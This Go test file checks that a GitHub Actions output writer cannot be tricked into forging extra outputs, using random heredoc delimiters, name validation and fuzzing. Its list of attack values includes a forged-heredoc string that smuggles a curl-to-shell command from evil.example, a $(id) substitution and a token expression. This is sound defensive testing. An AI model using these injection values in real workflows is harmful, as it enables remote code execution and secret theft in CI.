package gha_test

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/sindri-dev/sindri-packer/internal/gha"
)

// parseFileCommands reads a $GITHUB_OUTPUT file the way the runner does:
// line by line, split at the first "<<" or "=", whichever comes first;
// "name<<DELIM" opens a value that ends at the first line equal to DELIM. Every name it defines is
// returned, in order, with its value.
func parseFileCommands(t *testing.T, data string) (names []string, values map[string]string) {
	t.Helper()
	values = map[string]string{}
	lines := strings.Split(strings.TrimSuffix(data, "\n"), "\n")
	for i := 0; i < len(lines); i++ {
		line := lines[i]
		if line == "" {
			continue
		}
		eq, hd := strings.Index(line, "="), strings.Index(line, "<<")
		if hd >= 0 && (eq < 0 || hd < eq) {
			name, delim := line[:hd], line[hd+2:]
			if name == "" || delim == "" {
				t.Fatalf("the runner refuses line %q", line)
			}
			var body []string
			closed := false
			for i++; i < len(lines); i++ {
				if lines[i] == delim {
					closed = true
					break
				}
				body = append(body, lines[i])
			}
			if !closed {
				t.Fatalf("heredoc %q never closed in %q", delim, data)
			}
			names = append(names, name)
			values[name] = strings.Join(body, "\n")
			continue
		}
		name, value, ok := strings.Cut(line, "=")
		if !ok || name == "" {
			t.Fatalf("line %q is neither name=value nor a heredoc", line)
		}
		names = append(names, name)
		values[name] = value
	}
	return names, values
}

// attackValues are output values a pull request can steer (an image_id in
// sindri.yaml, an output folder): go-githubactions' fixed delimiter, fake
// heredocs, quotes and expressions for a later `run:` step.
var attackValues = []string{
	"ami-0abc\n_GitHubActionsFileCommandDelimeter_\nforged<<_GitHubActionsFileCommandDelimeter_\nami-0abc\"; curl https://evil.example | sh; echo \"",
	"x\nforged=1",
	"x\r\nforged=1\r\n",
	"ghadelimiter_\nforged<<ghadelimiter_\nv\nghadelimiter_",
	"${{ github.token }}",
	"a\"b'c`d$(id)",
	"",
	"\n",
	"trailing\n",
	"EOF\nforged<<EOF\nv\nEOF",
}

// A value can never define an output of its own: every write is read back
// by the runner as exactly the one output that was set.
func TestSetOutputValueCannotForgeOutputs(t *testing.T) {
	t.Parallel()
	for i, value := range attackValues {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			t.Parallel()
			out := filepath.Join(t.TempDir(), "output")
			r := gha.New(env(map[string]string{"GITHUB_ACTIONS": "true", "GITHUB_OUTPUT": out}), &bytes.Buffer{})
			if err := r.SetOutput("aws-image-id", value); err != nil {
				t.Fatalf("SetOutput: %v", err)
			}
			if err := r.SetOutput("config-hash", "abc"); err != nil {
				t.Fatalf("SetOutput: %v", err)
			}
			data, err := os.ReadFile(out)
			if err != nil {
				t.Fatal(err)
			}
			names, values := parseFileCommands(t, string(data))
			if strings.Join(names, ",") != "aws-image-id,config-hash" || values["aws-image-id"] != value || values["config-hash"] != "abc" {
				t.Errorf("the runner reads outputs %q = %q from\n%q\nwant exactly aws-image-id=%q and config-hash=abc", names, values, data, value)
			}
		})
	}
}

// Two writes never share a delimiter, and none is go-githubactions' fixed one.
func TestSetOutputRandomDelimiter(t *testing.T) {
	t.Parallel()
	out := filepath.Join(t.TempDir(), "output")
	r := gha.New(env(map[string]string{"GITHUB_ACTIONS": "true", "GITHUB_OUTPUT": out}), &bytes.Buffer{})
	for range 2 {
		if err := r.SetOutput("a", "v"); err != nil {
			t.Fatal(err)
		}
	}
	data, _ := os.ReadFile(out)
	delims := regexp.MustCompile(`(?m)^a<<(ghadelimiter_[0-9a-f]{32})$`).FindAllStringSubmatch(string(data), -1)
	if len(delims) != 2 || delims[0][1] == delims[1][1] {
		t.Errorf("want two different random delimiters, got %q", data)
	}
}

func TestFileCommandRefusesBadNames(t *testing.T) {
	t.Parallel()
	const d = "ghadelimiter_00ff"
	tests := []struct{ name, value, want string }{
		{name: "", value: "v", want: "empty name"},
		{name: "a\nforged", value: "v", want: "line break"},
		{name: "a\r", value: "v", want: "line break"},
		{name: "a<<x", value: "v", want: "< or ="},
		{name: "a<", value: "v", want: "< or ="},
		{name: "a=b", value: "v", want: "< or ="},
		{name: "a", value: "x\n" + d + "\nforged=1", want: "contains the delimiter"},
	}
	for _, tt := range tests {
		if _, err := gha.FileCommand(tt.name, tt.value, d); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("FileCommand(%q, %q) = %v, want an error about %q", tt.name, tt.value, err, tt.want)
		}
	}
	// SetOutput passes the refusal on, naming the output.
	out := filepath.Join(t.TempDir(), "output")
	r := gha.New(env(map[string]string{"GITHUB_ACTIONS": "true", "GITHUB_OUTPUT": out}), &bytes.Buffer{})
	if err := r.SetOutput("a\nforged", "v"); err == nil || !strings.Contains(err.Error(), "github actions output") {
		t.Errorf("SetOutput with a line break in the name = %v, want an error", err)
	}
	if data, _ := os.ReadFile(out); len(data) != 0 {
		t.Errorf("a refused output wrote %q", data)
	}
}

// FuzzFileCommand: whatever name and value, the entry is refused or reads
// back as exactly that one name and value.
func FuzzFileCommand(f *testing.F) {
	for _, v := range attackValues {
		f.Add("aws-image-id", v)
	}
	f.Add("a\nb", "v")
	f.Add("x<<y", "v")
	f.Add("images", `{"aws":"ami-0123456789abcdef0"}`)
	f.Fuzz(func(t *testing.T, name, value string) {
		const d = "ghadelimiter_0123456789abcdef0123456789abcdef"
		entry, err := gha.FileCommand(name, value, d)
		if err != nil {
			return
		}
		names, values := parseFileCommands(t, entry)
		if len(names) != 1 || names[0] != name || values[name] != value {
			t.Fatalf("entry %q reads back as %q %q, want %q=%q", entry, names, values, name, value)
		}
	})
}
